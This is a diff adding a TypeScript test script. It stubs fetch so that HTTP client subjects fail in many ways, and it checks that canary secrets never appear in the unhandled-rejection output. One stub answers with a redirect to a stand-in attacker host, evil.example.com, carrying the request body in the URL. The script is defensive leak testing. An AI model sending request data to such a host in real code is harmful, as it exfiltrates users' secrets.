@@ -1,0 +1,57 @@
+// Makes calls that fail in every way and handles none of their rejections, so that the runtime prints them all. Its own
+// output is the list of texts that must not be among what it prints.
+import { allCanaries } from '../canaries/canary.js';
+import { answerOf, fetchFailed, stubFetch, type StubRequest } from '../stub/stub-fetch.js';
+import { kunacoreWithFunction, kunacoreWithToken } from '../subjects/kunacore.js';
+import { subjects } from '../subjects/subjects.js';
+import type { Subject } from '../subjects/subject.js';
+import { notJson } from '../tables/bodies-of-callers.js';
+import { readInput } from './child.js';
+
+const { crash } = await readInput<{ crash: boolean }>();
+const baseUrl = 'https://provider.example.com';
+
+const echo = ({ body, headers, url }: StubRequest): string =>
+  JSON.stringify({ code: 'X', messages: [body, headers, url] });
+
+const failures: ((request: StubRequest) => Response | Promise<Response>)[] = [
+  ...[400, 401, 403, 404, 409, 418, 422, 429, 500, 501].map(
+    (status) => (request: StubRequest) =>
+      new Response(echo(request), { status, headers: { 'retry-after': '99' } }),
+  ),
+  (request) => new Response(echo(request)),
+  (request) => new Response(`<html>${echo(request)}`),
+  (request) => Promise.reject(Object.assign(new Error(echo(request)), { request, code: request.body })),
+  (request) =>
+    Promise.reject(new TypeError('fetch failed', { cause: new Error(echo(request), { cause: request }) })),
+  // oxlint-disable-next-line typescript/prefer-promise-reject-errors -- fetch implementations do
+  (request) => Promise.reject(request),
+  () => Promise.reject(fetchFailed('ECONNREFUSED')),
+  ({ body }) =>
+    answerOf(307, { location: `https://u:p@evil.example.com/?${encodeURIComponent(body ?? '')}` }),
+];
+
+let calls = 0;
+const leave = (call: Promise<unknown>): void => {
+  calls++;
+  void call;
+};
+
+function failEveryWay(subject: Subject): void {
+  for (const answer of failures) {
+    const { fetch } = stubFetch(subject, answer);
+    const client = subject.open({ baseUrl, fetch, maxAttempts: 1 });
+    leave(client.update());
+    leave(client.create());
+    leave(client.read());
+  }
+  const { fetch } = stubFetch(subject, () => answerOf(200), failures[0]);
+  leave(subject.open({ baseUrl, fetch, maxAttempts: 1 }).update({ signal: AbortSignal.abort(subject) }));
+  for (const make of Object.values(notJson)) {
+    leave(subject.open({ baseUrl, fetch }).update({ headers: { 'x-mine': make() as string } }));
+  }
+}
+
+if (crash) leave(subjects[0]!.open({ baseUrl, fetch: async () => answerOf(404) }).update());
+else for (const subject of [...subjects, kunacoreWithToken, kunacoreWithFunction]) failEveryWay(subject);
+console.log(JSON.stringify({ texts: allCanaries(), calls }));
